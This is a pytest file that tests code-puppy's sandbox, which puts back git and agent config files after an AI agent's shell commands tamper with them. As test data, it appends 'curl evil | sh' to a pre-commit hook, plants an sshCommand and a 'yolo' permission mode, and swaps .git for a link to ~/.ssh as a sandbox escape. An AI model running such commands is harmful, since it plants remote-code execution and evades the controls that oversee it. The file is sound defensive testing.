"""The put-back of the files that configure code-puppy, other agents and git (`sandbox.guard`), under both real
mechanisms: it never writes through a link a command left, it keeps each file's mode, and commands that overlap
cannot keep what one of them planted. No skips: a machine without bwrap or Landlock fails here."""

from __future__ import annotations

import asyncio
import stat
import subprocess
from pathlib import Path

import pytest
from pydantic_ai.messages import ToolCallPart

from code_puppy.config import SandboxConfig, Settings
from code_puppy.core.builder import AgentOptions, build_pydantic_agent, capability
from code_puppy.run.deps import RunDeps
from code_puppy.sandbox import ProjectSandbox
from code_puppy.sandbox.sandboxed_shell import SandboxedShell
from code_puppy.sessions.session import Session
from tests.conftest import run_cli, wait_for
from tests.fake_llm import FakeLLMServer, call, text, tool_calls
from tests.scripted_model import scripted, tool_returns
from tests.test_landlock import force_landlock
from tests.test_mcp import tool_results
from tests.test_sandbox import sandboxed

MECHANISMS = ["bwrap", "landlock"]
ORIGINAL = "[core]\n\trepositoryformatversion = 0\n"


@pytest.fixture
def git_repo(repo: Path) -> Path:
    (repo / ".git" / "config").write_text(ORIGINAL)
    return repo


def use(mechanism: str, home: Path) -> None:
    config = home / "config.toml"
    config.write_text(f'{config.read_text() if config.exists() else ""}[sandbox]\nmechanism = "{mechanism}"\n')


def listing(folder: Path) -> list[str]:
    return sorted(path.relative_to(folder).as_posix() for path in folder.rglob("*"))


PLANTED = "[core]\n\tsshCommand = planted\n"


@pytest.mark.parametrize("mechanism", MECHANISMS)
@pytest.mark.parametrize("planted", ["before", "during"])
def test_a_git_folder_swapped_for_a_link_is_moved_back_and_nothing_is_written_through_it(
    mechanism: str, planted: str, code_puppy_home: Path, git_repo: Path, home: Path
) -> None:
    """`before`: an earlier background command planted the text (so it is in the state taken before this command);
    `during`: this command plants it, then swaps."""
    use(mechanism, code_puppy_home)
    before = listing(home / ".ssh")
    if planted == "before":
        (git_repo / ".git" / "config").write_text(ORIGINAL + PLANTED)
    plant = "true" if planted == "before" else 'printf "%s" "$1" >> .git/config'
    script = plant + '\nmv .git .git-real && ln -s "$HOME/.ssh" .git && echo swapped'
    completed = sandboxed(git_repo, script, PLANTED, env={"HOME": str(home)})

    assert listing(home / ".ssh") == before  # no config, no hooks/ written where the link pointed
    assert (git_repo / ".git").is_dir() and not (git_repo / ".git").is_symlink()
    assert not (git_repo / ".git-real").exists()
    assert (git_repo / ".git" / "config").read_text() == ORIGINAL + (PLANTED if planted == "before" else "")
    assert (git_repo / ".git" / "HEAD").exists()
    notes = [line for line in completed.stderr.splitlines() if line.startswith("code-puppy: sandbox:")]
    if mechanism == "bwrap":  # .git/config is bound read-only, and a bind mount cannot be renamed
        assert (completed.stdout, notes) == ("", []), completed.stderr
        return
    assert completed.stdout == "swapped\n", completed.stderr
    (note,) = notes
    assert f"A command replaced .git. The changed versions are in {code_puppy_home}" in note
    assert f"The sandbox moved .git back from {git_repo / '.git-real'}: commands may not rename it." in note
    assert ("The sandbox put back .git/config: " in note) == (planted == "during")


def test_a_folder_replaced_by_a_link_is_put_back_without_following_it(
    code_puppy_home: Path, git_repo: Path, home: Path
) -> None:
    """Under Landlock a command can replace `.code-puppy` (a guarded folder, not a bind) with a link to the user's own
    config: the put-back removes the link and puts the folder back, never writing where it pointed."""
    use("landlock", code_puppy_home)
    (home / ".config").mkdir()
    script = 'mv .code-puppy .moved && ln -s "$HOME/.config" .code-puppy && echo swapped'
    completed = sandboxed(git_repo, script, env={"HOME": str(home)})

    assert completed.stdout == "swapped\n", completed.stderr
    assert listing(home / ".config") == []
    assert (git_repo / ".code-puppy").is_dir() and not (git_repo / ".code-puppy").is_symlink()
    assert (git_repo / ".code-puppy" / "config.toml").read_text() == "# the project's config\n"
    assert "The sandbox put back .code-puppy, .code-puppy/config.toml: " in completed.stderr


@pytest.mark.parametrize("mechanism", MECHANISMS)
def test_the_put_back_keeps_each_files_mode(mechanism: str, code_puppy_home: Path, git_repo: Path, home: Path) -> None:
    use(mechanism, code_puppy_home)
    hook = git_repo / ".git" / "hooks" / "pre-commit"
    hook.write_text("#!/bin/sh\nexec ruff check\n")
    hook.chmod(0o755)
    completed = sandboxed(git_repo, "echo 'curl evil | sh' >> .git/hooks/pre-commit", env={"HOME": str(home)})

    assert hook.read_text() == "#!/bin/sh\nexec ruff check\n"
    assert stat.S_IMODE(hook.stat().st_mode) == 0o755
    if mechanism == "bwrap":
        assert "Read-only file system" in completed.stderr  # refused outright: nothing to put back
    else:
        assert "The sandbox put back .git/hooks/pre-commit: " in completed.stderr


def test_a_fifo_left_in_a_guarded_place_does_not_hang_the_put_back(
    code_puppy_home: Path, git_repo: Path, home: Path
) -> None:
    use("landlock", code_puppy_home)
    completed = sandboxed(git_repo, "rm .code-puppy/config.toml && mkfifo .code-puppy/config.toml", env={})
    assert (git_repo / ".code-puppy" / "config.toml").read_text() == "# the project's config\n"
    assert "The sandbox put back .code-puppy/config.toml: " in completed.stderr


@pytest.mark.parametrize("mechanism", MECHANISMS)
def test_overlapping_commands_cannot_keep_what_one_planted(mechanism: str, git_repo: Path) -> None:
    """Two commands in the sandbox at once (a delegated run's and the main run's): the second one's start must not
    take what the first planted as the state to put back."""
    config = git_repo / ".code-puppy" / "config.toml"
    sandbox = ProjectSandbox(SandboxConfig.model_validate({"mechanism": mechanism}), git_repo)
    try:
        sandbox.hold()  # the first command starts…
        config.write_text("[permissions]\nmode = 'yolo'\n")  # …and plants this
        sandbox.hold()  # a second command starts
        first = sandbox.release()
        assert config.read_text() == "# the project's config\n"
        config.write_text("planted again while the second still runs\n")
        second = sandbox.release()
        assert config.read_text() == "# the project's config\n"
        config.write_text("the user's own edit, between commands\n")
        sandbox.hold()  # nothing held any more: a later command starts from what is there now
        assert sandbox.release() is None and config.read_text() == "the user's own edit, between commands\n"
    finally:
        sandbox.close()
    assert first is not None and first.startswith("The sandbox put back .code-puppy/config.toml: ")
    assert second is not None and second.startswith("The sandbox put back .code-puppy/config.toml: ")


def test_the_calls_of_one_response_run_one_at_a_time_and_the_writer_is_told(
    server: FakeLLMServer, code_puppy_home: Path, outside: Path
) -> None:
    """Two shell calls in one response, the first planting a config: they run one after the other (never
    overlapping), so the put-back lands in the result of the call that wrote, and the second call sees the original."""
    force_landlock(code_puppy_home)
    project = outside / "project"
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    (project / ".code-puppy").mkdir()
    (project / ".code-puppy" / "config.toml").write_text('model = "fake"\n')
    first = "echo a-start >> order; echo '[x]' >> .code-puppy/config.toml; sleep 0.3; echo a-end >> order"
    server.script(
        tool_calls(
            call("shell", {"command": first}),
            call("shell", {"command": "echo b-start >> order; cat .code-puppy/config.toml; echo b-end >> order"}),
        ),
        text("done"),
    )
    completed = run_cli("-p", "try", "--permission-mode", "auto", cwd=project)

    assert (completed.returncode, completed.stdout) == (0, "done\n"), completed.stderr
    assert (project / "order").read_text().split() == ["a-start", "a-end", "b-start", "b-end"]
    wrote, read = tool_results(server.requests[1].body)
    assert "\n[The sandbox put back .code-puppy/config.toml: " in wrote
    assert "put back" not in read and 'model = "fake"' in read and "[x]" not in read
    assert (project / ".code-puppy" / "config.toml").read_text() == 'model = "fake"\n'


def test_a_background_plant_then_a_swap_never_reaches_the_home_folder(
    server: FakeLLMServer, code_puppy_home: Path, outside: Path, home: Path
) -> None:
    """The probe's escape, end to end under Landlock: a background command plants text in `.git/config`, a later
    foreground command renames `.git` and links `~/.ssh` in its place; the put-back writes nothing there."""
    force_landlock(code_puppy_home)
    project = outside / "project"
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    (project / ".code-puppy").mkdir()
    (project / ".code-puppy" / "config.toml").write_text('model = "fake"\n')
    before = listing(home / ".ssh")
    # The background command plants while the foreground one runs (once it says so), then that one swaps.
    plant = "until [ -e go ]; do sleep 0.05; done; printf '[core]\\n\\tsshCommand = planted\\n' >> .git/config"
    swap = (
        'touch go; until grep -q planted .git/config; do sleep 0.05; done; mv .git .git-real; ln -s "$HOME/.ssh" .git'
    )
    server.script(
        tool_calls(call("shell", {"command": plant, "mode": "background"})),
        tool_calls(call("shell", {"command": swap})),
        text("done"),
    )
    completed = run_cli("-p", "try", "--permission-mode", "auto", cwd=project, env={"HOME": str(home)})

    assert (completed.returncode, completed.stdout) == (0, "done\n"), completed.stderr
    assert listing(home / ".ssh") == before
    assert (project / ".git").is_dir() and not (project / ".git").is_symlink() and not (project / ".git-real").exists()
    assert "planted" not in (project / ".git" / "config").read_text()
    (swapped,) = tool_results(server.requests[2].body)[-1:]
    assert f"The sandbox moved .git back from {project.resolve() / '.git-real'}" in swapped
    assert "The sandbox put back .git/config: " in swapped


async def test_a_cancelled_command_is_put_back_and_leaves_the_guard_free(project: Path) -> None:
    """Ctrl-C while a sandboxed command runs: what it planted is put back all the same, and the next command's
    put-back starts from the state before it (a user's edit in between is theirs and stays)."""
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    config = project / ".code-puppy" / "config.toml"
    config.parent.mkdir()
    config.write_text("# the project's config\n")
    settings = Settings.model_validate({"sandbox": {"mechanism": "landlock"}})
    script = scripted(
        [ToolCallPart("shell", {"command": "echo planted >> .code-puppy/config.toml; sleep 30"}, tool_call_id="p")],
        [ToolCallPart("shell", {"command": "true"}, tool_call_id="t")],
        "done",
    )
    agent = build_pydantic_agent(
        settings, AgentOptions(model=script.model, project_root=project, permission_mode="auto")
    )
    shell = capability(agent, SandboxedShell)
    assert shell is not None
    try:
        run = asyncio.ensure_future(agent.run("plant", deps=RunDeps(Session.in_memory())))
        await asyncio.to_thread(wait_for, lambda: "planted" in config.read_text(), what="the plant")
        run.cancel()
        with pytest.raises(asyncio.CancelledError):
            await run
        assert config.read_text() == "# the project's config\n"

        config.write_text("# the user's edit between turns\n")
        session = Session.in_memory()
        await agent.run("again", deps=RunDeps(session))
    finally:
        shell.end_commands()
    (result,) = [content for _, _, content in tool_returns(session.messages)]
    assert config.read_text() == "# the user's edit between turns\n" and "put back" not in result


@pytest.mark.parametrize("mechanism", MECHANISMS)
def test_a_git_folder_made_after_the_first_command_is_guarded_from_then_on(mechanism: str, project: Path) -> None:
    sandbox = ProjectSandbox(SandboxConfig.model_validate({"mechanism": mechanism}), project)

    def run(script: str) -> str | None:
        sandbox.hold()
        argv = sandbox.get().argv(["/bin/sh", "-c", script], cwd=project)
        subprocess.run(argv, check=True, capture_output=True)
        return sandbox.release()

    try:
        assert run("git init -q .") is None  # the guard was made when there was no .git
        note = run("echo /elsewhere > .git/commondir")
    finally:
        sandbox.close()
    assert not (project / ".git" / "commondir").exists()
    assert note is not None and note.startswith("The sandbox put back .git/commondir: ")


def test_the_put_back_goes_on_when_what_it_removes_cannot_be_kept(code_puppy_home: Path, git_repo: Path) -> None:
    use("landlock", code_puppy_home)
    (code_puppy_home / "sandbox-put-back").write_text("a file where the folder would go\n")
    completed = sandboxed(git_repo, "echo '[permissions]' >> .code-puppy/config.toml")
    assert (git_repo / ".code-puppy" / "config.toml").read_text() == "# the project's config\n"
    (note,) = [line for line in completed.stderr.splitlines() if line.startswith("code-puppy: sandbox:")]
    assert note.endswith(
        f"The changed versions could not be kept ({code_puppy_home / 'sandbox-put-back'} cannot be written)."
    )
